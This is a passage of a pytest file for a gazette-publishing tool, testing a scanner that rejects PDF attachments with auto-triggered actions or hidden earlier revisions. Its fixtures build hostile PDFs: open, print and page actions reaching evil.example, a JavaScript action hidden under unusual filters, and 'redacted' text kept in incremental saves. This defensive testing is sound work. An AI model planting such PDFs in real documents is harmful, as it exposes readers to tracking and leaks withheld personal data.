"""Attachments (附件) and a 图解's images: declared, checked by their bytes, published with their page,
locked, withheld with it — and every way around that an editor (or an attacker) might try."""
from __future__ import annotations

import binascii
import io
import json
from collections import Counter
import os
import zipfile
import zlib

import pypdf
import pytest

from conftest import DOCUMENT as DOC_TEXT, TODAY, Repo
from gongbao.content import attachments, lock, urls
from gongbao.identifiers import filetypes
from gongbao.publish import rendered_html, twins
from gongbao.publish.render import site
from gongbao.publish.check import check
from gongbao.rules.html_safety import body_problems
from samplefiles import jpeg, ooxml, pdf, png, png_chunk

DOC = "gazette/2018/06/xzbf-68.md"
JD = "interpretations/xzbf-68-jd.md"
PDF_PATH = "gazette/2018/06/xzbf-68/附件1.pdf"


def declare(repo: Repo, entries: str, path: str = DOC, key: str = "attachments") -> None:
    repo.replace(path, "\n---\n", f"\n{key}:\n{entries}---\n")


def errors(repo: Repo, rule: str = attachments.ID) -> list[str]:
    return [str(d) for d in repo.check().diagnostics if d.rule == rule and d.is_error]


def attached(repo: Repo, data: bytes = b"", name: str = "附件1.pdf", title: str = "附件1：考核办法") -> None:
    repo.write(f"gazette/2018/06/xzbf-68/{name}", data or pdf())
    declare(repo, f"  - file: xzbf-68/{name}\n    title: {title}\n")


# ---- what a file really is -------------------------------------------------------------------------

@pytest.mark.parametrize("suffix,data", [(".pdf", pdf()), (".png", png()), (".jpg", jpeg()), (".jpeg", jpeg()),
                                         (".xlsx", ooxml()), (".docx", ooxml("word/document.xml"))])
def test_real_files_of_each_type_pass(suffix, data):
    assert filetypes.problem(suffix, data) is None


def _flate_object_stream(text: bytes) -> bytes:
    body = zlib.compress(text)
    return pdf().replace(b"xref", b"9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + body
                         + b"\nendstream\nendobj\nxref", 1)


def _object_stream(filters: bytes, text: bytes = b"<< /S /JavaScript /JS (app.alert(1)) >>") -> bytes:
    """An object stream under ``filters``, its one object (``text``) written in hex: what ASCIIHexDecode reads."""
    body = binascii.hexlify(b"5 0 " + text) + b">"
    return pdf().replace(b"xref", b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + filters + b" >>\nstream\n" + body
                         + b"\nendstream\nendobj\nxref", 1)


@pytest.mark.parametrize("data", [
    _object_stream(b"/ASCIIHexDecode"),     # the catalogue's /OpenAction 5 0 R then runs it: the scan inflates Flate only
    _object_stream(b"/AHx"),
    _object_stream(b"[/ASCII85Decode /FlateDecode]"),
    _object_stream(b"/LZW#44ecode"),
    _object_stream(b"/RunLengthDecode"),
    _object_stream(b"/CCITTFaxDecode"),     # an image codec that round-trips bits, on an object stream
    pdf().replace(b"trailer\n<<", b"trailer\n<< /Encrypt 8 0 R", 1),   # every stream, object streams too, ciphertext
])
def test_a_pdf_whose_dictionaries_the_scan_cannot_read_is_refused(data):
    assert "无法检查" in filetypes.problem(".pdf", data)


def _with_objects(extra: bytes, *objects: bytes, compressed: bool = False, first: int = 10) -> bytes:
    """The sample PDF with ``extra`` in its catalogue and ``objects`` numbered from ``first``: written in the file, or
    kept in a Flate object stream (as a PDF 1.5 writer keeps them) whose header gives each one's number and offset."""
    if not compressed:
        written = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, first))
        return pdf(extra=extra).replace(b"xref", written + b"xref", 1)
    offsets = [sum(len(o) + 1 for o in objects[:i]) for i in range(len(objects))]
    header = b" ".join(b"%d %d" % (n, o) for n, o in zip(range(first, first + len(objects)), offsets)) + b"\n"
    body = zlib.compress(header + b"\n".join(objects))
    stream = (b"9 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
              % (len(objects), len(header), len(body)) + body + b"\nendstream\nendobj\n")
    return pdf(extra=extra).replace(b"xref", stream + b"xref", 1)


URI = b"<< /S /URI /URI (https://evil.example/t.gif) >>"
NAMED = b"<< /S /Named /N /NextPage >>"


def _indexed(extra: bytes, objects: tuple[bytes, ...], numbers: tuple[int, ...], index: dict[int, int]) -> bytes:
    """A PDF 1.5 of one revision: the sample's objects and ``objects`` in a Flate object stream 9 whose header numbers
    them ``numbers``, listed by an xref stream (as Word and Acrobat write them) whose entries point each of ``index``
    at that index of the stream, ``extra`` in the catalogue."""
    out = bytearray(pdf(extra=extra).split(b"xref\n", 1)[0])
    offsets = {n: out.index(b"\n%d 0 obj" % n) + 1 for n in range(1, 6)}
    places = [sum(len(o) + 1 for o in objects[:i]) for i in range(len(objects))]
    header = b" ".join(b"%d %d" % pair for pair in zip(numbers, places)) + b"\n"
    offsets[9] = len(out)
    out += b"9 0 obj\n%s\nendobj\n" % _stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (
        len(objects), len(header)), zlib.compress(header + b"\n".join(objects)))
    offsets[12] = len(out)
    rows = [(n, bytes([1]) + o.to_bytes(4, "big") + b"\x00") for n, o in offsets.items()]
    rows += [(n, bytes([2]) + (9).to_bytes(4, "big") + bytes([i])) for n, i in index.items()]
    rows.sort()
    out += b"12 0 obj\n%s\nendobj\n" % _stream(
        b"/Type /XRef /Size 13 /Root 1 0 R /Index [%s] /W [1 4 1] /Filter /FlateDecode" % b" ".join(
            b"%d 1" % n for n, _ in rows), zlib.compress(b"".join(row for _, row in rows)))
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % offsets[12])


# A PDF that reaches another host or file by itself, without a click: on opening, closing or printing it, on showing a
# page or the pointer over an annotation; the action kept elsewhere, spelt otherwise, or chained after a harmless one.
@pytest.mark.parametrize("data", [
    pdf(extra=b"/OpenAction " + URI),
    _with_objects(b"/OpenAction 10 0 R ", URI),
    _with_objects(b"/OpenAction 10 0 R ", URI, compressed=True),
    _with_objects(b"/OpenAction 10 %note\n 0 R ", b"11 0 R", URI),       # a comment inside, a reference to a reference
    _with_objects(b"/AA << /WC 10 0 R >> ", b"<< /S /GoToR /F (https://evil.example/a.pdf) /D [0 /Fit] >>"),
    _with_objects(b"/AA 10 0 R ", b"<< /WP << /S /Thread /F (//evil.example/a.pdf) /D 0 >> >>", compressed=True),
    pdf().replace(b"/Type /Page /Parent", b"/Type /Page /AA << /O " + URI + b" >> /Parent"),
    _with_objects(b"", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /AA << /E " + URI + b" >> >>"),  # pointer over it
    pdf(extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> " + URI + b"] >> "),
    pdf(extra=b"/Open#41ction<</S/U#52I/URI(https://evil.example/)>>"),
    pdf(extra=b"/#41A<</O<</S/Rendition/R 10 0 R>>>>"),
    pdf(extra=b"/OpenAction << /S /GoTo /D (a\\) >> (b) /x) /Next " + URI + b" >> "),  # a string holding ">>" and ")"
    _with_objects(b"/OpenAction 10 0 R ", b"<< /S /GoTo /D [3 0 R /Fit] >>", compressed=True).replace(
        b"xref", b"10 0 obj\n" + URI + b"\nendobj\nxref", 1),           # an object written twice: a viewer may read either
], ids=["open", "open-ref", "open-object-stream", "comment-ref-to-ref", "will-close-GoToR", "will-print-Thread",
        "page-open", "annotation-enter", "next-chain", "escaped", "escaped-AA", "string", "written-twice"])
def test_a_pdf_that_reaches_elsewhere_by_itself_is_refused(data):
    assert "自动访问其他网站或文件" in filetypes.problem(".pdf", data)


def test_a_pdf_whose_xref_points_an_object_at_another_in_an_object_stream_is_refused():
    """The /OpenAction 10 0 R that the stream's header numbers the /Named action is, to the xref, the object at index 1:
    the /URI action, which pdf.js reads (it takes the index, not the header's number); the scan read the /Named one."""
    assert _indexed(b"/OpenAction 10 0 R ", (NAMED, URI), (10, 11), {10: 0, 11: 1}) is not None
    assert filetypes.problem(".pdf", _indexed(b"/OpenAction 10 0 R ", (NAMED, URI), (10, 11), {10: 0, 11: 1})) is None
    assert "把对象 10 指向了对象流中的另一个对象" in filetypes.problem(
        ".pdf", _indexed(b"/OpenAction 10 0 R ", (NAMED, URI), (10, 11), {10: 1, 11: 0}))
    assert "自动访问其他网站或文件" in filetypes.problem(
        ".pdf", _indexed(b"/OpenAction 10 0 R ", (URI, NAMED), (10, 11), {10: 0, 11: 1}))


def test_a_pdf_action_whose_object_is_missing_is_refused():
    assert filetypes.problem(".pdf", pdf(extra=b"/OpenAction 12 0 R ")) == "PDF 的自动动作无法检查（引用的对象 12 不存在）"


@pytest.mark.parametrize("extra", [b"/OpenAction " + b"[" * 100_000, b"/OpenAction << /S /URI /S /GoTo >> ",
                                   b"/AA << >> " * 60_000, b"/OpenAction << /S /GoTo /D (a\\) "])
def test_a_pdf_action_the_scan_cannot_read_within_its_bounds_is_refused(extra):
    """Nested past the bound, a key twice (which one a viewer takes, the scan cannot say), too many, cut short."""
    assert filetypes.problem(".pdf", pdf(extra=extra)) == "文件结构损坏（ValueError）"


# A link the reader clicks is a link, as in a Word file; opening at a page, or a viewer's own menu item, reaches nothing.
@pytest.mark.parametrize("data", [
    _with_objects(b"", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + URI + b" >>"),
    pdf(extra=b"/OpenAction [3 0 R /Fit] "),
    _with_objects(b"/OpenAction 10 0 R ", b"<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>", compressed=True),
    pdf(extra=b"/AA << /WP << /S /Named /N /Print >> >> /URI << /Base (https://www.gov.cn/) >> "),
], ids=["link", "open-at-page", "open-at-page-object-stream", "named"])
def test_a_pdfs_links_and_opening_at_a_page_pass(data):
    assert filetypes.problem(".pdf", data) is None


def _saved_again(data: bytes, text: bytes = b"BT /F1 18 Tf 72 760 Td (redacted) Tj ET") -> bytes:
    """``data`` saved incrementally (as Acrobat's Save does): the page's text object written again after the file, in
    an xref section of its own chained to the one before by /Prev, with its own startxref and %%EOF."""
    previous = int(data.rsplit(b"startxref", 1)[1].split()[0])
    at = len(data)
    update = b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(text), text)
    xref = at + len(update)
    return data + update + (b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
                            % (at, previous, xref))


def _linearized(data: bytes, first_page: bool = True) -> bytes:
    """``data`` as a linearized ("fast web view") file: linearization parameters first, whose /L is the file's length,
    then the first page's xref section ending with startxref 0 and %%EOF (unless not ``first_page``: a file that only
    claims linearization), then the rest (its offsets not redone)."""
    header, rest = data.split(b"\n", 1)
    length = 0
    while True:
        first = (b"99 0 obj\n<< /Linearized 1 /L %d /O 3 /E 0 /N 1 /T 0 /H [0 0] >>\nendobj\n" % length
                 + first_page * b"xref\n99 1\n0000000009 00000 n \ntrailer\n<< /Size 100 /Root 1 0 R /Prev 0 >>\nstartxref\n0\n%%EOF\n")
        built = header + b"\n" + first + rest
        if len(built) == length:
            return built
        length = len(built)


# A "redacted" PDF whose withheld text was taken out in an incremental save still holds it in its earlier revision.
@pytest.mark.parametrize("data", [
    _saved_again(pdf("业主张三 0510-0000001")),
    _saved_again(pdf("x")).replace(b"%%EOF\n", b"\n", 1),             # its first end left out: /Prev still chains them
    _saved_again(_linearized(pdf("x"))),                                # a linearized file saved again
    _linearized(_saved_again(pdf("x")), first_page=False),              # two revisions claiming to be a linearized one
    _linearized(pdf("x")) + b"\r\nx",                                  # past a linearized file's end, more than blanks
    _linearized(pdf("x")) + b"\n%comment\n",
    pdf("x") + pdf("y")[9:],                                            # a second file's body written after the first
    pdf("x").replace(b"%%EOF\n", b"") + b"4 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n6 0 obj\n<< /Type /X#52ef "
    b"/Size 7 /Root 1 0 R /Prev 9 /W [1 2 1] /Length 0 >>\nstream\n\nendstream\nendobj\nstartxref\n999\n%%EOF\n",  # by an xref stream
    pdf("业主张三").replace(b"xref", b"4 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\nxref", 1),  # its text object twice
    _with_objects(b"", b"<< /Length 0 >>", compressed=True, first=4),  # once more in an object stream
], ids=["saved-again", "end-left-out", "linearized-saved-again", "fake-linearized", "past-its-length",
        "comment-past-its-length", "appended", "xref-stream", "object-twice",
        "object-twice-object-stream"])
def test_a_pdf_of_more_than_one_revision_is_refused(data):
    assert "请用“另存为”或“打印为 PDF”生成一个新的 PDF" in filetypes.problem(".pdf", data)


@pytest.mark.parametrize("tail", [b"", b"\r\n", b"\n", b" \x00\x00\x00\x00"])
def test_a_linearized_pdf_is_one_revision(tail):
    """Whitespace or NUL past /L (a line end after %%EOF, padding) is nothing a viewer reads, and holds no revision."""
    assert filetypes.problem(".pdf", _linearized(pdf()) + tail) is None


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"


def _stream(head: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(body), body)


def _update(data: bytes, objects: dict[int, bytes], free: tuple[int, ...] = (), xref_stream: bool = False,
            aliases: dict[int, int] | None = None, prev: int | None = None, trailer: bytes = b"",
            compressed: dict[int, tuple[int, int]] | None = None) -> bytes:
    """``data`` saved incrementally: ``objects`` (number: body) written after it, with an xref section of their own
    (a table, or a Flate xref stream with the PNG Up predictor, as Acrobat writes) chained to the one before by /Prev
    (or to ``prev``), ``trailer`` in its dictionary; ``free`` are entries marking objects deleted, ``aliases`` entries
    pointing an object's number at another's place, ``compressed`` (an xref stream's) entries pointing an object's
    number at an object stream and an index in it."""
    previous = int(data.rsplit(b"startxref", 1)[1].split()[0]) if prev is None else prev
    out, offsets = bytearray(data), {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets |= {number: offsets[other] for number, other in (aliases or {}).items()}
    size, at = max(*offsets, *free, 5) + 2, len(out)
    entries = sorted([(n, 1, o) for n, o in offsets.items()] + [(n, 0, 0) for n in free]
                     + [(n, 2, place) for n, place in (compressed or {}).items()])
    if not xref_stream:
        out += b"xref\n" + b"".join(b"%d 1\n%010d %05d %s \n" % (n, o, 0 if kind else 1, (b"f", b"n")[kind])
                                    for n, kind, o in entries)
        out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d %s>>\n" % (size, previous, trailer)
    else:
        entries.append((size - 1, 1, at))
        rows, before = b"", bytes(6)
        for _n, kind, o in entries:
            row = bytes([kind]) + (o[0].to_bytes(4, "big") + bytes([o[1]]) if kind == 2 else o.to_bytes(4, "big") + b"\x00")
            rows += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, before))
            before = row
        index = b" ".join(b"%d 1" % n for n, _, _ in entries)
        out += b"%d 0 obj\n" % (size - 1) + _stream(
            b"/Type /XRef /Size %d /Root 1 0 R /Prev %d /Index [%s] /W [1 4 1] /Filter /FlateDecode "
            b"/DecodeParms << /Predictor 12 /Columns 6 >> %s" % (size, previous, index, trailer), zlib.compress(rows))
        out += b"\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % at)


def _hybrid(data: bytes) -> bytes:
    """``data`` (its last revision's xref a stream) as a hybrid file writes it: a table and trailer, chained by /Prev,
    naming by /XRefStm the xref stream, which has no /Prev of its own."""
    body, tail = data.rsplit(b"startxref", 1)
    stream_at = int(tail.split()[0])
    prev = body[stream_at:].split(b"/Prev ", 1)[1].split()[0]
    body = body[:stream_at] + body[stream_at:].replace(b"/Prev " + prev, b" " * (6 + len(prev)), 1)
    return body + (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 20 /Root 1 0 R /Prev %s /XRefStm %d >>\n"
                   b"startxref\n%d\n%%%%EOF\n" % (prev, stream_at, len(body)))


def _signed(data: bytes, first: int = 6, before: tuple[int, ...] = (), page: bytes = PAGE, kept: tuple[int, ...] = (),
            added: tuple[int, ...] = (), more: dict[int, bytes] | None = None, **update) -> bytes:
    """``data`` signed as a signing tool signs it (电子签章): a revision that adds a signature dictionary, its widget
    with the seal's appearance (a form drawing an image), lists the widget after the signature widgets ``before`` in
    the catalogue's AcroForm and in the ``page``'s /Annots (after the annotations ``kept``; ``added`` after it), and
    writes ``more`` besides (or, where it says None, not the object it would write)."""
    sig, widget, form, image = range(first, first + 4)
    fields = b" ".join(b"%d 0 R" % n for n in (*before, widget))
    annots = b" ".join(b"%d 0 R" % n for n in (*kept, *before, widget, *added))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] /SigFlags 3 >> >>" % fields,
        3: page[:-2] + b"/Annots [%s] >>" % annots,
        sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 840 1240 960] "
             b"/M (D:20261205080000+08'00') /Contents <3082%s> >>" % (b"00" * 200),
        widget: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature%d) /V %d 0 R /Rect [400 60 520 180] /F 132 "
                b"/P 3 0 R /AP << /N %d 0 R >> >>" % (first, sig, form),
        form: _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 120 120] /Resources << /XObject << /Im0 %d 0 R >> >>"
                      % image, b"q 120 0 0 120 0 0 cm /Im0 Do Q"),
        image: _stream(b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8",
                       b"\xcc\x00\x00"),
    }
    return _update(data, {n: body for n, body in (objects | (more or {})).items() if body is not None}, **update)


def test_a_signing_revision_the_check_cannot_read_within_its_bounds_is_refused():
    """An xref stream of 300,000 entries (a few hundred bytes, deflated) is refused, not read on."""
    signed = _signed(pdf())
    previous = int(signed.rsplit(b"startxref", 1)[1].split()[0])
    table = zlib.compress(bytes(900_000))
    data = signed + b"20 0 obj\n" + _stream(b"/Type /XRef /Size 300000 /Root 1 0 R /Prev %d /W [1 1 1] "
                                            b"/Filter /FlateDecode" % previous, table) + b"\nendobj\n"
    data += b"startxref\n%d\n%%%%EOF\n" % len(signed)
    assert filetypes.problem(".pdf", data) == "文件结构损坏（ValueError）"


def _generation(data: bytes, written: bool = True) -> bytes:
    """``data`` with its last revision's page listed in the xref as generation 1 (and written so, when ``written``):
    the page tree's 3 0 R then reads nothing."""
    cut = data.rindex(b"%%EOF", 0, len(data) - 6)
    at = data.index(b"\n3 0 obj", cut) + 1
    tail = data[cut:].replace(b"\n3 0 obj", b"\n3 %d obj" % written, 1)
    tail = tail.replace(b"%010d 00000 n" % at, b"%010d 00001 n" % at)
    return data[:cut] + tail


FREETEXT = b"<< /Type /Annot /Subtype /FreeText /Rect [72 750 300 780] /Contents <5df26838> /DA (/Helv 12 Tf) >>"
WITHHELD = b"BT /F1 18 Tf 72 760 Td (withheld) Tj ET"
SQUARE = b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>"
ANNOTATED = _with_objects(b"", SQUARE, first=6).replace(b"/Contents 4 0 R", b"/Annots [6 0 R] /Contents 4 0 R")
INFO = _with_objects(b"", b"<< /Title (x) >>", first=6).replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 6 0 R")
ANNOTS_ARRAY = _with_objects(b"", b"[]", first=6).replace(b"/Contents 4 0 R", b"/Annots 6 0 R /Contents 4 0 R")
XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
       b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
       b'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/" pdf:Producer="WPS">'
       b'<dc:format>application/pdf</dc:format><dc:title><rdf:Alt><rdf:li xml:lang="x-default">%s</rdf:li></rdf:Alt>'
       b'</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
# the same facts written anew, as a signing tool writes them: a property as an attribute, new dates and producer
XMP_SIGNED = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="t">'
              b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
              b'xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmlns:pdf="http://ns.adobe.com/pdf/1.3/" '
              b'xmlns:dc="http://purl.org/dc/elements/1.1/" xmp:ModifyDate="2026-12-05T08:00:00+08:00" '
              b'pdf:Producer="Seal" dc:format="application/pdf"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">%s'
              b'</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="r"?>')
WITH_XMP = _with_objects(b"/Metadata 6 0 R ", _stream(b"/Type /Metadata /Subtype /XML", XMP % "通知".encode()), first=6)
XMP_CATALOG = b"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R /AcroForm << /Fields [8 0 R] /SigFlags 3 >> >>"
CONTENTS_ARRAY = _with_objects(b"", b"[4 0 R]", first=6).replace(b"/Contents 4 0 R", b"/Contents 6 0 R")


def _page_in_object_stream(index: int) -> bytes:
    """Signed, with the page written again (its /Annots grown) in an object stream whose header numbers a new, untyped
    page dictionary drawing other text 30 and the page 3; its xref entry points 3 at ``index`` of that stream (at 1:
    the page; at 0: the other dictionary, which pdf.js, reading the index and not the number, shows as page 3)."""
    fake = b"<< /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 31 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    header = b"30 0 3 %d " % (len(fake) + 1)
    packed = zlib.compress(header + fake + b" " + PAGE[:-2] + b"/Annots [7 0 R] >>")
    return _signed(pdf("x"), more={3: None, 20: _stream(b"/Type /ObjStm /N 2 /First %d /Filter /FlateDecode"
                                                        % len(header), packed), 31: _stream(b"", WITHHELD)},
                   xref_stream=True, compressed={3: (20, index)})


# A signature or an electronic seal is applied in an incremental save (the signed revision must stay as it was): a
# revision that only signs holds nothing the reader no longer sees, so it passes, once or several times.
@pytest.mark.parametrize("data", [
    _signed(pdf("签发")),
    _signed(_signed(pdf("签发")), first=10, before=(7,)),
    _signed(_signed(_signed(pdf("签发")), first=10, before=(7,)), first=14, before=(7, 11)),
    _signed(pdf("签发"), xref_stream=True),
    _signed(_linearized(pdf("签发"))),
    _signed(pdf("签发"), page=PAGE.replace(b"[0 0 595 842]", b"[0.0 0 595.00 842]")),    # numbers written otherwise
    _signed(pdf("签发"), more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 20 0 R /DSS 21 0 R >>",
                               20: b"<< /Fields [7 0 R] /SigFlags 3 >>", 21: b"<< /Certs [22 0 R] >>",
                               22: _stream(b"", b"0\x82")}),
    _signed(ANNOTATED, first=7, kept=(6,)),                                             # the annotations it had kept
    _signed(INFO, first=7, more={6: b"<< /Title (x) /ModDate (D:20261205) /Producer (Seal) >>"},
            trailer=b"/Info 6 0 R"),
    _signed(_signed(pdf()), first=10, before=(7,), more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields "
                                                            b"[7 0 R 11 0 R] /SigFlags 3 /DR << /Font << >> >> >> >>"}),
    _signed(pdf(), more={7: b"<< /Type /Annot /Subt#79pe /Wid#67et /FT /Sig /V 6 0 R /Rect [0 0 0 0] /P 3 0 R >>"}),
    _signed(ANNOTS_ARRAY, first=7, more={3: None, 6: b"[8 0 R]"}),                     # a page's /Annots array grown
    _signed(WITH_XMP, first=7, more={1: XMP_CATALOG, 6: _stream(b"/Type /Metadata /Subtype /XML /Filter /FlateDecode",
                                                                zlib.compress(XMP_SIGNED % "通知".encode()))}),
    _hybrid(_signed(pdf("签发"), xref_stream=True)),
    _page_in_object_stream(1),
], ids=["once", "twice", "three-times", "xref-stream", "linearized", "numbers", "acroform-object-and-dss", "annotated",
        "info-dates", "resources-beside-signatures", "escaped-names", "annots-array", "xmp-dates", "hybrid",
        "page-in-object-stream"])
def test_a_pdf_only_signed_in_its_later_revisions_passes(data):
    assert filetypes.problem(".pdf", data) is None


def test_a_signed_pdf_built_here_is_one_a_pdf_reader_reads():
    """The signed files above are what a PDF reader reads (strictly): the page lists both seals' widgets, the form
    both signatures."""
    reader = pypdf.PdfReader(io.BytesIO(_signed(_signed(pdf("签发")), first=10, before=(7,))), strict=True)
    fields = reader.trailer["/Root"]["/AcroForm"]["/Fields"]
    assert [a.get_object()["/FT"] for a in reader.pages[0]["/Annots"]] == ["/Sig", "/Sig"]
    assert [f.get_object()["/V"]["/Type"] for f in fields] == ["/Sig", "/Sig"]


# A revision that signs and, besides, changes what the reader sees (or may see) keeps the refusal: the earlier
# revision still holds what it showed before.
@pytest.mark.parametrize("data,why", [
    (_signed(pdf("业主张三"), page=PAGE.replace(b"4 0 R", b"20 0 R"), more={20: _stream(b"", WITHHELD)}),
     "改写了页面（对象 3）的 /Contents"),
    (_signed(pdf("业主张三"), more={4: _stream(b"", WITHHELD)}), "改写了对象 4"),
    (_signed(pdf("业主张三"), more={4: b"<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"}), "改写了对象 4"),
    (_signed(pdf("x"), page=PAGE.replace(b"/F1 5 0 R", b"/F1 20 0 R"), more={20: b"<< /Type /Font /Subtype /Type1 "
                                                                                   b"/BaseFont /Courier >>"}),
     "改写了页面（对象 3）的 /Resources"),
    (_signed(pdf("x"), more={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"}), "改写了对象 5"),
    (_signed(ANNOTATED, first=7), "改动了页面（对象 3）的注释"),                      # its square taken away
    (_signed(ANNOTATED, first=7, kept=(6,), more={6: SQUARE.replace(b"]", b"] /C [1 1 1]")}), "改写了对象 6"),
    (_signed(pdf("x"), added=(20,), more={20: FREETEXT}), "改动了页面（对象 3）的注释"),
    (_signed(pdf("x"), added=(20,), more={20: FREETEXT.replace(b"/Type /Annot ", b"")}),  # an annotation's /Type is
     "改动了页面（对象 3）的注释"),                                                    # optional
    (_signed(pdf("x"), more={20: FREETEXT}), "新增的对象 20（/Annot /FreeText）"),    # on no page (yet)
    (_signed(pdf("x"), added=(20,), more={20: b"<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] >>"}),
     "改动了页面（对象 3）的注释"),                                                    # a text field, not a signature
    (_signed(pdf("x"), free=(4,)), "交叉引用表删去或另指了对象 4"),                      # its text deleted by the xref
    (_signed(pdf("x"), free=(4,), xref_stream=True), "交叉引用表删去或另指了对象 4"),
    (_signed(pdf("x"), more={1: b"<< /Type /Catalog /Pages 20 0 R /AcroForm << /Fields [7 0 R] >> >>",
                             20: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "改写了文档目录的 /Pages"),
    (_signed(pdf("x"), more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] "
                                b"/NeedAppearances true >> >>"}), "改写了表单（AcroForm）的 /NeedAppearances"),
    (_signed(_signed(pdf("x")), first=10), "改写了表单（AcroForm）的 /Fields"),     # the first signature's field dropped
    (_signed(_saved_again(pdf("业主张三"))), "改写了对象 4"),                         # saved again, then signed
    (_signed(pdf("x"), prev=9), "没有接在上一版之后"),                                 # the earlier xref left out
    (_signed(pdf("x")).replace(b"/Prev", b"/Pre"), "无法分开检查"),                   # not chained at all
    (_signed(pdf("x").replace(b"/Contents 4 0 R", b"/Contents [4 0 R 20 0 R]"),
             page=PAGE.replace(b"/Contents 4 0 R", b"/Contents [4 0 R 20 0 R]"),
             more={20: _stream(b"", b"1 1 1 rg 0 0 595 842 re f")}), "引用却不存在的对象 20"),  # painted over
    (_signed(pdf("x"), more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] >> /DSS 5 0 R >>",
                             5: b"<< /Certs [] >>"}), "改写了对象 5"),                   # the page's font as the DSS
    (_signed(pdf("x"), more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 5 0 R >>",
                             5: b"<< /Fields [7 0 R] /SigFlags 3 >>"}), "改写了对象 5"),  # the font as the AcroForm
    (_signed(pdf("x"), more={4: b"<< /Title (x) >>"}, trailer=b"/Info 4 0 R"), "改写了对象 4"),  # the content as /Info
    (_signed(INFO, first=7, more={6: b"<< /Title (y) /ModDate (D:20261205) >>"}, trailer=b"/Info 6 0 R"),
     "改写了文档信息（/Info）的 /Title"),
    (_signed(CONTENTS_ARRAY, first=7, page=PAGE.replace(b"4 0 R", b"6 0 R"), more={6: b"[4 0 R 8 0 R]"}),
     "改写了数组对象 6"),                                                              # a widget as page content
    (_signed(pdf("x"), aliases={4: 6}), "另指了对象 4"),                               # its text pointed at the signature
    (_generation(_signed(pdf("x"))), "改了对象 3 的版本号"),                            # the page as 3 1 obj
    (_generation(_signed(pdf("x")), written=False), "另指了对象 3"),                     # 3 0 obj listed as 3 1
    (_signed(pdf("x"), more={20: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
                             + zlib.compress(b"4 0 << /Length 0 >>") + b"\nendstream"}), "改写了对象 4"),
    (_signed(_with_objects(b"/AcroForm << /Fields [6 0 R] >> ", b"<< /FT /Tx /T (name) /V (x) /Rect [0 0 9 9] >>"),
             first=7, more={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R 8 0 R] "
                               b"/DA (/Helv 0 Tf) >> >>"}), "改写了表单（AcroForm）的 /DA"),  # a text field drawn otherwise
    (_signed(WITH_XMP, first=7, more={1: XMP_CATALOG, 6: _stream(b"/Type /Metadata /Subtype /XML",
                                                                 XMP_SIGNED % "通知（已删除姓名）".encode())}),
     "改写了 XMP 元数据（对象 6）"),
    (_signed(WITH_XMP, first=7, more={1: XMP_CATALOG, 6: _stream(b"/Type /Metadata /Subtype /XML", b'<!DOCTYPE x '
